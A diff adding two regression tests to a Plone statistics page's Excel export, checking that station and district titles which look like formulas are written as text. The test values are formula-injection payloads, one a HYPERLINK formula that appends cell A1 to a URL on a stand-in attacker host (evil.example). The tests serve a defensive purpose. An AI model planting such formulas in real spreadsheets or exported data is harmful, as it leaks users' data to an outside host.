@@ -5,6 +5,7 @@ answered at the field; ECharts is loaded by this page only."""
 from AccessControl import Unauthorized
 from io import BytesIO
 from openpyxl import load_workbook
+from plone import api
 from plone.app.testing import setRoles
 from plone.app.testing import TEST_USER_ID
 from plone.testing.zope import Browser
@@ -90,6 +91,35 @@ class TestStatisticsPage(unittest.TestCase):
         districts = {row[0].value: [c.value for c in row[1:3]] for row in book["按区县"].iter_rows(min_row=2)}
         self.assertEqual(districts["曾都区"], [9, 7])
         self.assertEqual(districts["广水市"], [1, 0])
+
+    def formula_cells(self, formula):
+        book = self.workbook("city")
+        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+        shown = [cell for cell in cells if isinstance(cell.value, str) and cell.value.endswith(formula)]
+        return shown, [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
+
+    def test_a_station_title_that_looks_like_a_formula_stays_text_in_excel(self):
+        # A district administrator may rename their district's stations (Editor).
+        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+        station = self.portal["stations"]["zengdu"]["zengdu-center"]
+        station.title = formula
+        station.reindexObject()
+        transaction.commit()
+        shown, formulas = self.formula_cells(formula)
+        self.assertTrue(shown)  # the station's row labels
+        self.assertEqual({cell.data_type for cell in shown}, {"s"})
+        self.assertEqual(formulas, [])
+
+    def test_a_district_title_that_looks_like_a_formula_stays_text_in_excel(self):
+        formula = '=HYPERLINK("http://evil.example/","曾都区")'
+        record = "suizhou.laborrights.vocabularies.districts"
+        lines = api.portal.get_registry_record(record)
+        api.portal.set_registry_record(record, tuple(line.replace("曾都区", formula) for line in lines))
+        transaction.commit()
+        shown, formulas = self.formula_cells(formula)
+        self.assertIn("'" + formula, [cell.value for cell in shown])  # written as typed, as text
+        self.assertEqual({cell.data_type for cell in shown}, {"s"})
+        self.assertEqual(formulas, [])
 
     def test_a_district_administrator_sees_their_district_only(self):
         _browser, doc = self.page("admin_zengdu")
